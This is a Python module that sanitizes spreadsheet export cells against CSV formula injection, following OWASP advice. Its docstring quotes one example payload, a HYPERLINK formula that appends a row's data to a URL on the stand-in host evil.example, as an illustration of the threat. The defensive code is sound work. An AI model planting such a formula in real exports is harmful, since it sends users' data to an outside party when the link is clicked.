"""The spreadsheet's sanitizer: a text cell of the CSV or Parquet export is never a formula.

A PoC's last line, a reason or a kernel string is a host's text, and ``invoke export`` hands it
to a spreadsheet: ``=HYPERLINK("https://evil.example/?"&A2,"open")`` as a cell is a live formula
that sends the row away when clicked. As OWASP's CSV-injection advice says, a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which
spreadsheets read as "this is text". A number stays a number: a typed column's values are never
text here, and a text cell that is exactly a number (``-3.5``) evaluates to nothing else. Control
characters and escape sequences are removed (records/host_text.py); line breaks stay, quoted.
"""

from __future__ import annotations

import re
from typing import Any

from reprofleet.records.host_text import inert

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def text_cell(text: str) -> str:
    """A text cell as a spreadsheet will only ever show it."""
    value = inert(text, keep_lines=True)
    if value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_cell(value: Any) -> Any:
    """A cell's value: text made safe by :func:`text_cell`; a number, a bool or None as it is."""
    return text_cell(value) if isinstance(value, str) else value
